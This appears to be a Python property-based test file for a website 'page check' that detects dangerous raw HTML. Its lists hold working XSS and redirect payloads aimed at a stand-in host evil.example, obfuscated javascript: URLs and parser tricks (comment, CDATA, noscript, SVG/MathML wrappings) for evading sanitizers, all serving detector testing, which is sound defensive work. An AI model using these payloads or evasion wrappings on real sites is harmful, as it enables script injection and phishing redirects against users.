"""The page check finds a dangerous payload however it is wrapped (issue 26, item 1): wrappings
a browser reads through (foreign content, comment and CDATA tricks, odd end tags, tables,
formatting, noscript) never hide it; wrappings that really make it text (a comment that
closes after it, <textarea>, a code sample) do."""

from __future__ import annotations

from hypothesis import assume, given, settings
from hypothesis import strategies as st

from pipeline.site.pagecheck import added, findings, runs_code

PAYLOADS = [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META HTTP-EQUIV=Refresh CONTENT="0; URL=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=q></form>',
    "<script>location='https://evil.example/'</script>",
    "<svg><script>alert(1)</script></svg>",
    '<img src=x alt=x onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<svg><a xlink:href="JavaScript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="x;javascript:alert(1)"/></svg>',
]

# (before, after) pairs a browser reads the payload through.
THROUGH = [
    ("<div>", "</div>"),
    ("<p>", "</p>"),
    ("<span>", "</span>"),
    ("<b><i>", "</b></i>"),
    ("<svg><style>", "</style></svg>"),
    ("<math><style>", "</style></math>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<math><mi>", "</mi></math>"),
    ("<!-->", " -->"),
    ("<!--->", " -->"),
    ("<![CDATA[ >", " ]]>"),
    ("<? x >", ""),
    ("<style>x</style x>", ""),
    ("<title>x</title y=1>", ""),
    ("</p x>", ""),
    ("<table><tr><td>", "</td></tr></table>"),
    ("<table>", "</table>"),
    ('<noscript><p title="</noscript>', '"></noscript>'),
    ("<noscript>", "</noscript>"),
    ("<template>", "</template>"),
    ("<details><summary>s</summary>", "</details>"),
    ("<ul><li>", "</li></ul>"),
    ("<select><option>", "</option></select>"),
    ("<a href='/x'>", "</a>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
]

# Wrappings that make the payload text (or an attribute's value) in every browser.
TEXT = [
    ("<!-- ", " -->"),
    ("<textarea>", "</textarea>"),
    ("<xmp>", "</xmp>"),
    ("<pre><code>", "</code></pre>"),
]

DOCUMENT = (
    "<!doctype html><html lang=en><head><meta charset=utf-8><title>t</title></head>"
    "<body><main>{}</main></body></html>"
)

# <template> content and a <select> drop or inert their contents in some of these; a payload
# that does not survive them as a live element is not dangerous, so they only nest others.
INERT_SOMETIMES = {("<template>", "</template>"), ("<select><option>", "</option></select>")}


def wrap(payload: str, layers: list[tuple[str, str]]) -> str:
    for before, after in layers:
        payload = f"{before}{payload}{after}"
    return payload


@settings(max_examples=300, deadline=None)
@given(
    payload=st.sampled_from(PAYLOADS),
    layers=st.lists(st.sampled_from([w for w in THROUGH if w not in INERT_SOMETIMES]), max_size=4),
)
def test_any_wrapping_a_browser_reads_through_is_refused(payload, layers):
    # Inside SVG or MathML, <![CDATA[ is a real CDATA section and <noscript> an element like
    # any other: what follows is text there, in a browser as in the check.
    foreign = [i for i, (before, _) in enumerate(layers) if before.startswith(("<svg", "<math"))]
    cdata = [
        i for i, (before, _) in enumerate(layers) if before.startswith(("<![CDATA[", '<noscript><p title="'))
    ]
    assume(not (foreign and cdata and min(cdata) < max(foreign)))
    # The noscript title trick around a plain <noscript> hides the payload in both readings:
    # scripting on, the inner noscript's text is raw text; scripting off, it is the title.
    trick = [i for i, (before, _) in enumerate(layers) if before.startswith('<noscript><p title="')]
    plain = [i for i, (before, _) in enumerate(layers) if before == "<noscript>"]
    assume(not (trick and plain and min(plain) < max(trick)))
    page = DOCUMENT.format(wrap(payload, layers))
    theme = DOCUMENT.format("")
    assert added(page, theme), page


@settings(max_examples=200, deadline=None)
@given(
    payload=st.sampled_from(PAYLOADS),
    inner=st.lists(st.sampled_from(THROUGH), max_size=2),
    outer=st.sampled_from(TEXT),
)
def test_a_payload_that_is_only_text_is_not_refused(payload, inner, outer):
    escaped = wrap(payload, inner).replace("&", "&amp;").replace("<", "&lt;")
    for fragment in (wrap(escaped, [outer]),) + (
        (wrap(wrap(payload, inner), [outer]),) if outer[0] != "<pre><code>" else ()
    ):
        if outer[0] == "<!-- " and "-->" in wrap(payload, inner):
            continue  # an inner comment closer ends the outer comment: really not text
        if outer[0] in ("<textarea>", "<xmp>") and f"</{outer[0][1:]}" in wrap(payload, inner):
            continue
        assert not added(DOCUMENT.format(fragment), DOCUMENT.format("")), fragment


def test_what_the_theme_has_is_not_refused_but_one_more_is():
    theme = DOCUMENT.format('<script src="/theme/js/menu.js" defer></script><form id=f></form>')
    same = DOCUMENT.format('<p>x</p><script src="/theme/js/menu.js" defer></script><form id=f></form>')
    assert added(same, theme) == []
    twice = DOCUMENT.format('<script src="/theme/js/menu.js" defer></script>' * 2 + "<form id=f></form>")
    assert [f.what for f in added(twice, theme)] == ["raw HTML <script>"]


def test_the_themes_description_meta_may_carry_the_pages_summary():
    head = '<meta name="description" content="{}">'
    theme = f"<html><head>{head.format('The site')}</head><body></body></html>"
    page = f"<html><head>{head.format('About us')}</head><body><p>x</p></body></html>"
    assert added(page, theme) == []
    extra = page.replace("<p>x</p>", '<meta http-equiv="refresh" content="0">')
    assert [f.what for f in added(extra, theme)] == ["raw HTML <meta>"]


@given(st.text(alphabet=" \t\n\r\x00\x01\x1fjJaAvVsScCrRiIpPtT:", max_size=20))
def test_javascript_urls_are_read_as_a_browser_reads_the_scheme(noise):
    squeezed = noise.replace("\t", "").replace("\n", "").replace("\r", "")
    expected = squeezed.strip("".join(chr(c) for c in range(0x21))).lower().startswith("javascript:")
    assert runs_code(noise) == expected


def test_findings_count_every_occurrence():
    assert sum(findings("<p onclick=a>x</p><p onclick=a>y</p>").values()) == 2
